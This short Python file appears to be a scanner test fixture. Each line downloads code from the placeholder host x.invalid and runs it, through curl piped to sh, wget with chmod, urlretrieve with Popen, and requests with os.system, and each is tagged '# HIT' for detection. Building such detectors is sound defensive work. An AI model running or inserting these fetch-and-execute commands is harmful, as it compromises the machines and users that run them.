import os
import subprocess
import urllib.request

import requests

os.system("curl -s https://x.invalid/i.sh | sh")  # HIT[high]
subprocess.run(["bash", "-c", "wget x.invalid/a && chmod +x a && ./a"])  # HIT
urllib.request.urlretrieve("https://x.invalid/a", "/tmp/a.bin")
subprocess.Popen(["/tmp/a.bin"])  # HIT


def fetch(path):
    data = requests.get("https://x.invalid/b").content
    with open(path, "wb") as file:
        file.write(data)
    os.system(path)  # HIT
